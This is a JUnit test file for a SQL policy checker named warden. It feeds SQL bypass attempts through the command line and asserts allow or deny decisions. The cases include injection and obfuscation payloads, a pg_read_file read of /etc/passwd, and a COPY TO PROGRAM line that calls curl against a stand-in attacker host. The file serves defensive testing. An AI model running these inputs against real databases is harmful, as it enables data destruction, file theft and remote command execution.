package dev.warden.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * End to end through the command line: {@code warden check --policy … --engine postgres --json} on bypass cases,
 * with the real PostgreSQL classifier behind it, reading the decision from stdout.
 */
class CheckPostgresBypassCliTest {
    @TempDir
    static Path dir;
    static Path policy;

    @BeforeAll
    static void policy() throws Exception {
        policy = dir.resolve("policy.yaml");
        Files.writeString(policy, """
                rules:
                  - name: reads
                    match: { kind: [read] }
                    action: allow
                  - name: session-settings
                    match: { kind: [session] }
                    action: allow
                  - name: declared-readers
                    match: { kind: [read], functions: ["public.report_*"] }
                    action: allow
                  - name: protect-audit-log
                    match: { objects: ["public.audit_log"], kind: [write, ddl] }
                    action: deny
                    reason: the audit log is append-only
                  - name: no-file-access
                    match: { flags: [file_access] }
                    action: deny
                """);
    }

    record Run(int status, JsonNode json, String stderr) {}

    static synchronized Run check(String sql) throws Exception {
        PrintStream out = System.out, err = System.err;
        ByteArrayOutputStream o = new ByteArrayOutputStream(), e = new ByteArrayOutputStream();
        int status;
        try {
            System.setOut(new PrintStream(o, true, StandardCharsets.UTF_8));
            System.setErr(new PrintStream(e, true, StandardCharsets.UTF_8));
            status = WardenCommand.run("check", "--policy", policy.toString(), "--engine", "postgres", "--json", sql);
        } finally {
            System.setOut(out);
            System.setErr(err);
        }
        String stdout = o.toString(StandardCharsets.UTF_8);
        return new Run(status, stdout.isBlank() ? null : new ObjectMapper().readTree(stdout), e.toString(StandardCharsets.UTF_8));
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(delimiter = '|', textBlock = """
            SELECT * FROM orders WHERE id = 1                                     | allow | read
            COMMIT; DELETE FROM orders                                            | deny  | write
            COMMIT; DROP TABLE audit_log                                          | deny  | ddl
            DROP TABLE "public"."audit_log"                                       | deny  | ddl
            WITH d AS (DELETE FROM audit_log RETURNING *) SELECT * FROM d         | deny  | write
            EXPLAIN (ANALYZE 'on') DELETE FROM orders                             | deny  | write
            EXPLAIN DELETE FROM orders                                            | allow | read
            SELECT * FROM pg_read_file('/etc/passwd')                             | deny  | admin
            COPY (SELECT 1) TO PROGRAM 'curl http://attacker'                     | deny  | unknown
            SELECT nextval('orders_id_seq')                                       | deny  | write
            SELECT my_writer()                                                    | deny  | unknown
            SELECT report_totals()                                                | allow | unknown
            SELECT report_totals(), my_writer()                                   | deny  | unknown
            DO $$ BEGIN DELETE FROM orders; END $$                                | deny  | unknown
            PREPARE p AS DELETE FROM audit_log; EXECUTE p                         | deny  | write
            SET search_path = evil; DROP TABLE audit_log                          | deny  | ddl
            SELECT E'\\''; DELETE FROM orders; SELECT ''                          | deny  | write
            SELECT $q$ ; DELETE FROM orders; $q$                                  | allow | read
            sElEcT/**/1;/**/dElEtE/**/fRoM"orders"                                | deny  | write
            BEGIN READ ONLY; SELECT lower(name), now() FROM users; COMMIT         | allow | read
            SELECT 1 FROM                                                         | deny  | unknown
            """)
    void decides(String sql, String decision, String kind) throws Exception {
        Run r = check(sql.strip());
        assertThat(r.status()).as(r.stderr()).isEqualTo(0);
        assertThat(r.json().path("decision").asText()).as(r.json().toPrettyString()).isEqualTo(decision);
        assertThat(r.json().path("kind").asText()).as(r.json().toPrettyString()).isEqualTo(kind);
    }

    @Test
    void denialNamesTheRuleAndTheHiddenStatement() throws Exception {
        Run r = check("WITH d AS (DELETE FROM audit_log RETURNING *) SELECT * FROM d");
        assertThat(r.json().path("rule").asText()).isEqualTo("protect-audit-log");
        assertThat(r.json().path("reasons").toString()).contains("append-only");
        JsonNode stmt = r.json().path("statements").get(0);
        assertThat(stmt.path("objects").toString()).contains("public.audit_log").contains("write");
        assertThat(stmt.path("flags").toString()).contains("destructive");
    }

    @Test
    void unknownFunctionIsNamedInTheReason() throws Exception {
        Run r = check("SELECT my_writer()");
        assertThat(r.json().path("reasons").toString()).contains("public.my_writer");
        assertThat(r.json().path("statements").get(0).path("unproven_functions").toString()).contains("public.my_writer");
    }
}
